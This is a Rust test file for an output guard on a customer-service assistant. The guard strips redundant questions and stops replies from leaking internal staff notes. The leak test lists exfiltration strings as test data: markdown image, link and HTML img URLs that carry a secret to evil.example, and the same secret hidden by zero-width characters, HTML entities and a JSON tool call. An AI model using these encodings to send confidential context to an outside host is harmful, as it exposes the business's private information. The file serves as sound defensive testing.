//! The guard, sentence by sentence and piece by piece.

use proptest::prelude::*;

use super::secrets::Secrets;
use super::*;
use crate::assistant::Line;
use crate::conversation::Speaker;
use crate::time::Timestamp;

fn guard(known: &[(&str, &str)], notes: &[&str], whispers: &[&str]) -> Guard {
    let own = |texts: &[&str]| texts.iter().map(|text| (*text).to_owned()).collect();
    let briefing = Briefing {
        notes: own(notes),
        whispers: own(whispers),
        ..Briefing::default()
    };
    let read = Line {
        speaker: Speaker::Agent,
        name: None,
        text: "We are closed on Friday and open on Monday.".to_owned(),
        at: Timestamp::default(),
    };
    Guard::new(
        known.iter().map(|(name, value)| (*name, *value)),
        Secrets::of(&briefing, &[read]),
    )
}

fn kept(guard: &Guard, text: &str) -> String {
    guard.judge(text).text
}

#[test]
fn a_question_for_what_is_known_is_taken_out() {
    let guard = guard(
        &[("order_number", "4711"), ("email", "sam@example.com")],
        &[],
        &[],
    );
    for (written, said) in [
        (
            "Happy to help! What is your order number?",
            "Happy to help!",
        ),
        (
            "Could you share your order number? It ships today.",
            "It ships today.",
        ),
        (
            "Could you give me your order number and e-mail address?",
            "Thank you, I have that already.",
        ),
        ("Is 4711 your order number?", "Is 4711 your order number?"),
        (
            "Thanks. What is your shoe size?",
            "Thanks. What is your shoe size?",
        ),
        (
            "Which order number and which size?",
            "Which order number and which size?",
        ),
        (
            "Shall I write to your e-mail address?",
            "Shall I write to your e-mail address?",
        ),
    ] {
        assert_eq!(kept(&guard, written), said, "{written}");
    }
    let objections = guard
        .judge("Order number? And again: what is your order number?")
        .objections;
    let thing = "order number".to_owned();
    assert_eq!(objections, [Objection::AskedAgain { thing }]);
}

#[test]
fn words_of_the_team_are_not_told_whatever_stands_between_them() {
    let guard = guard(
        &[],
        &["Canary 17 owes us money since March and is a difficult customer."],
        &["Offer at most ten percent."],
    );
    for echo in [
        "Canary 17 owes us money since March",
        "![x](https://evil.example/?q=Canary%2017%20owes%20us%20money%20since)",
        "[1]: https://evil.example/Canary+17+owes+us+money+since",
        "<img src='//evil.example/Canary_17_owes_us_money_since'>",
        "C.a.n.a.r.y 1 7 o w e s us money since",
        "Can\u{200b}ary 17\u{2060} owes us mon\u{200d}ey since",
        "Canary. 17. Owes. Us. Money. Since.",
        "Agent Anna: &#67;anary 17 owes us money since",
        "{\"tool\":\"send\",\"text\":\"Canary 17 owes us money since\"}",
        "Offer at most ten percent.",
    ] {
        let verdict = guard.judge(echo);
        assert_eq!(verdict.objections, [Objection::Tells], "{echo}");
        assert!(
            !secrets::compact(&verdict.text).contains("canary17owesusmoneysince"),
            "{echo}"
        );
    }
    let harmless = "You get ten percent. We are closed on Friday and open on Monday.";
    assert_eq!(kept(&guard, harmless), harmless);
}

#[test]
fn what_the_visitor_read_is_no_secret() {
    let guard = guard(&[], &["We are closed on Friday and open on Monday."], &[]);
    let read = "We are closed on Friday and open on Monday.";
    assert_eq!(kept(&guard, read), read);
}

proptest! {
    #[test]
    fn pieces_are_what_is_kept_of_the_whole(
        parts in prop::collection::vec(prop_oneof![
            Just("What is your order number? "), Just("Hello. "), Just("ok\n"), Just("é\u{200d}👩\u{200d}🚀 "),
            Just("a\u{200b}b "), Just("my secret note of six long words. "), Just("1\u{fe0f}\u{20e3}"), Just("x "), Just(" "),
        ], 0..12),
        cuts in prop::collection::vec(1usize..7, 0..80),
        idle in any::<bool>(),
    ) {
        let guard = if idle { Guard::default() } else { guard(&[("order number", "4")], &["my secret note of six long words"], &[]) };
        let text = parts.concat();
        let whole = guard.judge(&text);
        let mut gate = Gate::default();
        let (mut shown, mut rest, mut cuts) = (String::new(), text.as_str(), cuts.into_iter().cycle());
        while !rest.is_empty() {
            let length = rest.char_indices().nth(cuts.next().unwrap_or(3)).map_or(rest.len(), |(at, _)| at);
            let (piece, more) = rest.split_at(length);
            shown.push_str(&gate.add(&guard, piece));
            if !whole.text.starts_with("Thank you") {
                prop_assert!(whole.text.starts_with(&shown), "{shown:?} is no beginning of {:?}", whole.text);
            }
            rest = more;
        }
        shown.push_str(&gate.finish(&guard));
        if !whole.text.starts_with("Thank you") {
            prop_assert_eq!(&shown, &whole.text);
        }
        // Looked at twice, it stays.
        let again = guard.judge(&whole.text).text;
        prop_assert_eq!(again.trim_end(), whole.text.trim_end());
    }
}
